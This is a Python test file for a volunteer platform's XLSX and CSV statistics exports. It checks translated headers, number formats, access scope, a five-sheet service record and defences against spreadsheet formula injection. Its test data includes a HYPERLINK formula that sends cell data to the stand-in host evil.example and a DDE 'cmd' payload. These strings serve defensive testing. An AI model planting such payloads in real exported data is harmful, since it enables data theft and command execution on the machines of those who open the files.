"""Exports: XLSX with translated headers and number formats, CSV with a BOM, the five-part service record."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from communities.render import exports
from tests.communities.selectors import test_stats

pytestmark = pytest.mark.django_db

# The statistics tests' small world and API client, shared.
world = test_stats.world
api = test_stats.api

STATS_URLS = [
    "/api/v1/stats/overview/",
    "/api/v1/stats/organizations/",
    "/api/v1/stats/communities/",
    "/api/v1/stats/post-types/",
    "/api/v1/stats/daily/",
    "/api/v1/stats/leaderboard/",
    "/api/v1/stats/leaderboard/?by=team",
    "/api/v1/stats/stars/",
    "/api/v1/stats/people/",
]


def workbook(response):
    assert response.status_code == 200, response.content[:200]
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="')
    return load_workbook(io.BytesIO(response.content))


def with_export(url: str, fmt: str) -> str:
    return f"{url}{'&' if '?' in url else '?'}export={fmt}"


@pytest.mark.parametrize("url", STATS_URLS)
def test_every_table_exports_as_xlsx_and_csv(world, api, url):
    client = api(world.staff_root)
    book = workbook(client.get(with_export(url, "xlsx")))
    assert book.active.max_row >= 2
    response = client.get(with_export(url, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_headers_follow_the_request_language(world, api):
    client = api(world.staff_root)
    zh = workbook(client.get("/api/v1/stats/organizations/?export=xlsx")).active
    en = workbook(client.get("/api/v1/stats/organizations/?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")).active
    assert [c.value for c in en[1]][:4] == ["Level", "Code", "Organization", "Volunteers"]
    assert [c.value for c in zh[1]][:4] == ["层级", "代码", "所属单位", "志愿者"]
    assert en.title == "Organizations"


def test_numbers_and_dates_are_typed_and_formatted(world, api):
    client = api(world.staff_root)
    sheet = workbook(client.get("/api/v1/stats/organizations/?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")).active
    header = [c.value for c in sheet[1]]
    root = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert root["Volunteers"].value == 5 and root["Volunteers"].number_format == "#,##0"
    assert root["Credited hours"].value == 6.0 and root["Credited hours"].number_format == "#,##0.0"

    daily = workbook(client.get("/api/v1/stats/daily/?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")).active
    first = daily.cell(row=2, column=1)
    assert first.is_date and first.number_format == "yyyy-mm-dd"

    overview = workbook(client.get("/api/v1/stats/overview/?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")).active
    figures = {row[0].value: row[1] for row in overview.iter_rows(min_row=2)}
    assert figures["Volunteers in reserve"].value == 5
    assert figures["Fill rate today"].value == 0.6 and figures["Fill rate today"].number_format == "0.0%"


def test_csv_has_bom_and_chinese(world, api):
    response = api(world.staff_root).get("/api/v1/stats/organizations/?export=csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["层级", "代码", "所属单位"]
    assert rows[1][2] == "团工委" and rows[1][3] == "5"
    overview = api(world.staff_root).get("/api/v1/stats/overview/?export=csv", HTTP_ACCEPT_LANGUAGE="en")
    lines = dict(csv.reader(io.StringIO(overview.content.decode("utf-8").lstrip("\ufeff"))))
    assert lines["Fill rate today"] == "60.0%" and lines["Credited hours"] == "6.0"


def test_exports_keep_the_scope(world, api):
    sheet = workbook(api(world.staff_a).get("/api/v1/stats/organizations/?export=xlsx")).active
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [world.a.code, world.a1.code]
    assert api(world.outsider).get("/api/v1/stats/organizations/?export=xlsx").status_code == 403
    assert api(world.staff_root).get("/api/v1/stats/overview/?export=pdf").status_code == 400


# --- The service record ----------------------------------------------------------------------------


def test_volunteer_service_record_has_five_parts(world, api):
    response = api(world.va1.user).get("/api/v1/me/service-record.xlsx", HTTP_ACCEPT_LANGUAGE="en")
    book = workbook(response)
    assert book.sheetnames == ["Basic information", "Service records", "Training", "Awards", "Evaluations"]
    identity = {row[0].value: row[1].value for row in book["Basic information"].iter_rows(min_row=2)}
    assert identity["Volunteer number"] == world.va1.volunteer_number
    assert identity["ID number"] == world.va1.id_number_masked
    service = book["Service records"]
    assert [c.value for c in service[1]][:5] == ["Date", "Start", "End", "Credited hours", "Service content"]
    entries = list(service.iter_rows(min_row=2, values_only=True))
    assert len(entries) == 2  # completed shifts; the pending one shows its status
    assert {entry[3] for entry in entries} == {4.0, 1.0}
    assert service.cell(row=2, column=1).is_date
    assert book["Training"].cell(row=2, column=1).value == "No training recorded."
    evaluations = {row[0].value: row[1].value for row in book["Evaluations"].iter_rows(min_row=2)}
    assert evaluations["Approved service hours"] == 4.0 and evaluations["Shifts completed"] == 2


def test_staff_service_record_within_scope(world, api):
    url = f"/api/v1/volunteers/{world.va2.pk}/service-record.xlsx"
    assert workbook(api(world.staff_a).get(url)).sheetnames[0] == "基本信息"
    assert api(world.staff_b).get(url).status_code == 404
    assert api(world.outsider).get(url).status_code == 403
    assert api(world.staff_a).get("/api/v1/me/service-record.xlsx").json()["code"] == "not_a_volunteer"


def test_xlsx_layout_header_widths_frozen_row_and_an_empty_sheet_note():
    from datetime import date

    columns = [
        exports.Column("name", "名称"),
        exports.Column("n", "Count", "int"),
        exports.Column("rate", "Rate", "rate"),
        exports.Column("day", "Day", "date"),
    ]
    rows = [{"name": "一个很长的社区名称", "n": 1200, "rate": 0.5, "day": date(2026, 12, 6)}, {"name": "b"}]
    data = exports.xlsx_bytes(
        [exports.Sheet("a/b", columns, rows), exports.Sheet("empty", columns, [], note="没有数据")]
    )
    book = load_workbook(io.BytesIO(data))
    sheet, empty = book.worksheets
    assert (sheet.title, sheet.freeze_panes, empty.freeze_panes) == ("a b", "A2", "A2")
    assert [c.value for c in sheet[1]] == ["名称", "Count", "Rate", "Day"]
    assert all(c.font.b and c.fill.fgColor.rgb.endswith("F2F2F2") and c.alignment.wrap_text for c in sheet[1])
    assert [(c.value, c.number_format) for c in sheet[2]][1:3] == [(1200, "#,##0"), (0.5, "0.0%")]
    assert sheet["D2"].is_date and sheet["D2"].number_format == "yyyy-mm-dd"
    assert [c.value for c in sheet[3]] == ["b", None, None, None]
    # East Asian characters count twice: 9 of them, 18 + 2; short columns get the minimum of 8.
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (20, 8)
    assert empty["A2"].value == "没有数据"


# --- Formula injection ------------------------------------------------------------------------------

# Text a spreadsheet would run: each formula start, and a tab or carriage return before one.
PAYLOADS = {
    "root": '=HYPERLINK("http://evil.example/?d="&B2,"详情")',
    "a": "+1+1银行",
    "a1": "-2+3分行",
    "b": "@SUM(1+1)",
    "team": "\t=1+1",
    "c1": "\r=1+1",
    "c2": "=社区",
    "street": "=cmd|' /C calc'!A0",
    "district": "+区",
    "pt1": "=岗位",
    "pt2": "-岗位",
    "va1": '=HYPERLINK("http://evil.example","张三")',
}


@pytest.fixture
def poisoned(world):
    """The shared world with every name a table shows replaced by a formula-like text."""
    for key in ("root", "a", "a1", "b", "team", "c1", "c2", "pt1", "pt2"):
        obj = getattr(world, key)
        obj.name = PAYLOADS[key]
        obj.save(update_fields=["name"])
    for community in (world.c1, world.c2):
        community.street.name = PAYLOADS["street"]
        community.street.save(update_fields=["name"])
        community.street.district.name = PAYLOADS["district"]
        community.street.district.save(update_fields=["name"])
    world.va1.real_name = PAYLOADS["va1"]
    world.va1.save(update_fields=["real_name"])
    return world


def assert_xlsx_has_no_formula(content: bytes) -> list[str]:
    """No sheet holds a formula; every formula-like text is a string cell formatted as text."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not [xml for xml in sheets if b"<f>" in xml or b"<f " in xml]
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # XML reads a carriage return back as a line feed.
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
                    assert (cell.data_type, cell.number_format) == ("s", "@"), (cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def csv_fields(content: bytes) -> list[str]:
    text = content.decode("utf-8").lstrip("\ufeff")
    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return fields


# The tables that show names; the daily, star-level and overview tables hold figures only.
NAMED_TABLES = {
    "/api/v1/stats/organizations/": {"root", "a", "a1", "b"},
    "/api/v1/stats/communities/": {"c1", "c2", "street", "district"},
    "/api/v1/stats/post-types/": {"pt1", "pt2"},
    "/api/v1/stats/leaderboard/": {"va1", "a", "team"},
    "/api/v1/stats/leaderboard/?by=team": {"team", "a"},
}


@pytest.mark.parametrize("url", STATS_URLS)
def test_every_export_keeps_formula_like_names_as_text(poisoned, api, url):
    client = api(poisoned.staff_root)
    expected = {PAYLOADS[key] for key in NAMED_TABLES.get(url, ())}

    xlsx = client.get(with_export(url, "xlsx"))
    assert xlsx.status_code == 200
    assert {text.replace("\r", "\n") for text in expected} <= set(assert_xlsx_has_no_formula(xlsx.content))

    fields = csv_fields(client.get(with_export(url, "csv")).content)
    assert {"'" + payload for payload in expected} <= set(fields)


def test_the_service_record_keeps_formula_like_text_as_text(poisoned, api):
    response = api(poisoned.va1.user).get("/api/v1/me/service-record.xlsx")
    assert response.status_code == 200
    texts = assert_xlsx_has_no_formula(response.content)
    # The name, organization and team; the place (community c1); the service content (post type).
    assert {PAYLOADS["va1"], PAYLOADS["a"], PAYLOADS["team"], "\n=1+1"} <= set(texts)
    assert [t for t in texts if t.startswith(PAYLOADS["pt1"] + " · ")]


def test_numbers_are_not_prefixed_and_text_cells_only_where_needed():
    columns = [exports.Column("name", "名称"), exports.Column("n", "Count", "int")]
    rows = [{"name": "-5", "n": -5}, {"name": "普通", "n": 3}]
    sheet = exports.Sheet("t", columns, rows)
    text = exports.csv_bytes(sheet).decode("utf-8").lstrip("\ufeff")
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [["'-5", "-5"], ["普通", "3"]]
    book = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet]))).active
    assert [(c.value, c.data_type) for c in book[2]] == [("-5", "s"), (-5, "n")]
    assert (book["A2"].number_format, book["A3"].number_format, book["B2"].number_format) == ("@", "General", "#,##0")


def test_control_characters_are_left_out_of_xlsx_and_kept_in_csv(poisoned, api):
    poisoned.va1.real_name = "张\x07三\x1b"
    poisoned.va1.save(update_fields=["real_name"])
    client = api(poisoned.staff_root)
    sheet = workbook(client.get("/api/v1/stats/leaderboard/?export=xlsx")).active
    assert "张三" in [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "张\x07三\x1b" in csv_fields(client.get("/api/v1/stats/leaderboard/?export=csv").content)
    record = load_workbook(io.BytesIO(api(poisoned.va1.user).get("/api/v1/me/service-record.xlsx").content))
    assert "张三" in [row[1] for row in record.worksheets[0].iter_rows(min_row=2, values_only=True)]
